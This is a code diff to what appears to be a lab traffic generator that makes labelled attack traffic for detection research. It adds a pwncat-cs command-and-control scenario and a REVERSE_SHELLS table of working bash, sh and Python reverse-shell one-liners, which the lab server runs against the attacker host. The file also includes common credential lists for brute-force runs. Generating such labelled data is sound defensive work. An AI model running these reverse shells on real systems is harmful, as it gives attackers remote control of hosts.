@@ -26,6 +26,9 @@ BF_SSH = Labels("ssh", "encrypted", "none", "bruteforce")
 BF_FTP = Labels("ftp", "cleartext", "none", "bruteforce")
 BF_HTTP = Labels("http", "cleartext", "none", "bruteforce")
 EXPLOIT = Labels("http", "cleartext", "none", "exploit")
+#: A reverse shell worked by a handler: command and control (ATT&CK TA0011, T1059 over T1095); no
+#: application protocol of the taxonomy, so service stays unlabelled.
+C2_SHELL = Labels(None, "cleartext", "none", "c2")
 
 USERS = ["admin", "root", "test", "user", "guest", "oracle", "ubuntu", "pi", "support", "ftp"]
 PASSWORDS = ["123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111",
@@ -35,8 +38,8 @@ PASSWORDS = ["123456", "password", "12345678", "qwerty", "123456789", "12345", "
 
 UNAVAILABLE["c2-beacon"] = (
     "threat",
-    "not generated: no real command-and-control framework is packaged in Debian, and a scripted "
-    "beacon loop (curl on a timer) would be a made-up pattern labelled as c2, not real C2 traffic")
+    "not generated: a scripted beacon loop (curl on a timer) would be a made-up pattern labelled as c2; "
+    "real command-and-control traffic comes from c2-pwncat (a real handler, pwncat-cs)")
 
 
 class Browsing:
@@ -274,6 +277,39 @@ def exploit_wfuzz(ctx: Context) -> None:
         else:
             argv.append(base + path)
         ctx.client("atk", argv, timeout=limit / len(rounds), ok=True)
+
+
+#: pwncat-cs and its pinned dependencies live in a virtual environment of their own (lab-setup.sh).
+PWNCAT_PYTHON = "/opt/multa-lab/pwncat/bin/python"
+#: Ways a compromised host calls back with a shell, as the victim would run them.
+REVERSE_SHELLS = {
+    "bash": "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
+    "python": ("python3 -c 'import os,pty,socket;s=socket.create_connection((\"{ip}\",{port}));"
+               "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'"),
+    "sh": "sh -i >& /dev/tcp/{ip}/{port} 0>&1",
+}
+
+
+@scenario("c2-pwncat", "threat",
+          "pwncat-cs (PyPI) handler on the attacker working reverse shells from the server (bash, sh or Python "
+          "call-back, as nobody): commands, read-only enumeration and downloads with pauses between them",
+          needs=(PWNCAT_PYTHON, "setpriv"))
+def c2_pwncat(ctx: Context) -> None:
+    from importlib.resources import files
+
+    ctx.rule(C2_SHELL, server=ctx.atk.ip, ports=ports(*range(4400, 4500)), client=ctx.srv.ip, protos=("tcp",),
+             what="reverse shell to pwncat")
+    operator = str(files("multa_broker.lab") / "c2pwncat.py")
+    for i in range(ctx.count(3, 8, minimum=1)):
+        port = ctx.rng.randint(4400, 4499)
+        limit = ctx.seconds(40, 120)
+        ctx.daemon("atk", [PWNCAT_PYTHON, operator, "--bind", ctx.target(ctx.atk.ip), "--port", str(port),
+                           "--tasks", str(ctx.count(3, 12, minimum=2)), "--seed", str(ctx.rng.randint(1, 10 ** 6)),
+                           "--pause", "0.3", str(ctx.rng.choice([2, 5, 10])), "--max-seconds", str(int(limit))],
+                   f"pwncat-{i}", listen=[("tcp", ctx.atk.ip, port)], wait=30)
+        callback = REVERSE_SHELLS[ctx.choice(sorted(REVERSE_SHELLS))]
+        ctx.client("srv", ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", "--",
+                           "bash", "-c", callback.format(ip=ctx.target(ctx.atk.ip), port=port)], timeout=limit + 10)
 
 
 def _vulnapp(ctx: Context, limit: float, keepalive: int = 0) -> None:
